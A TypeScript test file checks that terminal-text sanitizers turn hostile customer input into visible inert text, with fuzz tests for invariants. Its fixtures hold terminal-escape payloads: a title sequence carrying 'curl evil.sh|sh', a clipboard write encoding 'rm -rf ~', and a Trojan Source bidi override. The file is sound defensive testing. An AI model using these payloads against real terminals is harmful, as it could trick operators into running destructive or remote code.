import { describe, expect, test } from 'vitest';
import fc from 'fast-check';
import { sanitizeForTerminal, sanitizeLine } from '../../shared/terminal-text';
import { hostileText } from '../helpers/hostile-text';

const ESC = '\x1b';
const BEL = '\x07';

// Each entry: what a hostile customer sends → exactly what the operator's terminal receives.
const hostile: Array<[string, string, string]> = [
  ['OSC 52 clipboard write', `${ESC}]52;c;cm0gLXJmIH4=${BEL}`, '^[]52;c;cm0gLXJmIH4=^G'],
  ['OSC 0 window title, BEL-terminated', `${ESC}]0;curl evil.sh|sh${BEL}`, '^[]0;curl evil.sh|sh^G'],
  ['OSC 2 title, ST-terminated', `${ESC}]2;pwned${ESC}\\`, '^[]2;pwned^[\\'],
  ['OSC 8 hyperlink', `${ESC}]8;;http://evil${ESC}\\click${ESC}]8;;${ESC}\\`, '^[]8;;http://evil^[\\click^[]8;;^[\\'],
  ['CSI clear screen and home', `${ESC}[2J${ESC}[H`, '^[[2J^[[H'],
  ['CSI cursor move', `hi${ESC}[10;5Hthere`, 'hi^[[10;5Hthere'],
  ['CSI cursor up and erase line', `ok${ESC}[1A${ESC}[2K`, 'ok^[[1A^[[2K'],
  ['SGR colour (kept inert too)', `${ESC}[31mred${ESC}[0m`, '^[[31mred^[[0m'],
  ['DCS request status string', `${ESC}P$qm${ESC}\\`, '^[P$qm^[\\'],
  ['8-bit CSI', '\x9b2J', '\uFFFD2J'],
  ['8-bit OSC and ST', '\x9d0;title\x9c', '\uFFFD0;title\uFFFD'],
  ['BEL', `ding${BEL}${BEL}`, 'ding^G^G'],
  ['CR overwrite', 'Pay to: Alice\rPay to: Mallory', 'Pay to: Alice^MPay to: Mallory'],
  ['backspace overstrike', 'safe\b\b\b\bEVIL', 'safe^H^H^H^HEVIL'],
  ['NUL and DEL', 'a\x00b\x7fc', 'a^@b^?c'],
  ['vertical tab and form feed', 'a\x0bb\x0cc', 'a^Kb^Lc'],
  [
    'Trojan Source bidi override',
    'access = "user\u202e \u2066// admin\u2069 \u2066"',
    'access = "user<RLO> <LRI>// admin<PDI> <LRI>"',
  ],
  [
    'bidi embeddings and marks',
    '\u202a\u202b\u202c\u202d\u200e\u200f\u061c\u2067\u2068',
    '<LRE><RLE><PDF><LRO><LRM><RLM><ALM><RLI><FSI>',
  ],
  ['lone surrogates', 'x\ud83dy\ude00z', 'x\uFFFDy\uFFFDz'],
];

const harmless: Array<[string, string]> = [
  ['Russian', 'Здравствуйте, заказ №123 не пришёл'],
  ['CJK', '你好，世界 こんにちは'],
  ['ZWJ family emoji', '👨‍👩‍👧‍👦 family'],
  ['flags and skin tones', '🇷🇺 🇬🇧 👍🏽'],
  ['England subdivision flag (tag characters)', '🏴󠁧󠁢󠁥󠁮󠁧󠁿'],
  ['combining marks', 'е́ café'],
  ['newlines and tabs', 'line 1\n\tline 2'],
];

describe('sanitizeForTerminal', () => {
  test.each(hostile)('%s becomes inert visible text', (_name, input, expected) => {
    expect(sanitizeForTerminal(input)).toBe(expected);
  });

  test.each(harmless)('%s survives unchanged', (_name, input) => {
    expect(sanitizeForTerminal(input)).toBe(input);
  });

  test('CRLF is one line break, as e-mail sends it', () => {
    expect(sanitizeForTerminal('a\r\nb\r\n')).toBe('a\nb\n');
  });

  test('line and paragraph separators become line breaks', () => {
    expect(sanitizeForTerminal('a\u2028b\u2029c')).toBe('a\nb\nc');
  });

  test('caps at 16,000 characters by default, ending in an ellipsis', () => {
    const out = sanitizeForTerminal('x'.repeat(20_000));
    expect(out).toHaveLength(16_000);
    expect(out.endsWith('x…')).toBe(true);
  });

  test('cap is counted on the output and never splits a caret pair', () => {
    expect(sanitizeForTerminal('a'.repeat(20), { maxLength: 10 })).toBe('aaaaaaaaa…');
    expect(sanitizeForTerminal(`aaaaaaaa${ESC}b`, { maxLength: 10 })).toBe('aaaaaaaa…');
  });

  test('cap never splits a surrogate pair', () => {
    expect(sanitizeForTerminal('😀'.repeat(10), { maxLength: 6 })).toBe('😀😀…');
  });

  test('text exactly at the cap is not cut', () => {
    expect(sanitizeForTerminal('abcde', { maxLength: 5 })).toBe('abcde');
  });
});

describe('sanitizeLine', () => {
  test('line breaks and tabs become spaces', () => {
    expect(sanitizeLine('Ivan\nPetrov\tjr\r\nx')).toBe('Ivan Petrov jr x');
  });

  test('a line break alone is also a space (plain text takes the fast path)', () => {
    expect(sanitizeLine('Ivan\nPetrov')).toBe('Ivan Petrov');
    expect(sanitizeForTerminal('Ivan\nPetrov')).toBe('Ivan\nPetrov');
  });

  test('still neutralises escapes in a name', () => {
    expect(sanitizeLine(`Bob${ESC}]0;hi${BEL}`)).toBe('Bob^[]0;hi^G');
  });

  test('a lone CR in a name is visible, not an overwrite', () => {
    expect(sanitizeLine('Alice\rMallory')).toBe('Alice^MMallory');
  });
});

describe('sanitizer invariants (fuzz)', () => {
  const FORBIDDEN =
    /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]/u;

  test('output never holds C0 (except \\n \\t), DEL, C1, bidi controls or lone surrogates', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        expect(FORBIDDEN.test(sanitizeForTerminal(text))).toBe(false);
      }),
      { numRuns: 2_000 },
    );
  });

  test('single-line output also has no \\n or \\t', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const out = sanitizeLine(text);
        expect(FORBIDDEN.test(out) || /[\n\t]/.test(out)).toBe(false);
      }),
      { numRuns: 1_000 },
    );
  });

  test('respects maxLength and is idempotent', () => {
    fc.assert(
      fc.property(hostileText, fc.integer({ min: 1, max: 60 }), (text, maxLength) => {
        const out = sanitizeForTerminal(text, { maxLength });
        expect(out.length).toBeLessThanOrEqual(maxLength);
        expect(sanitizeForTerminal(out, { maxLength })).toBe(out);
      }),
      { numRuns: 1_000 },
    );
  });
});
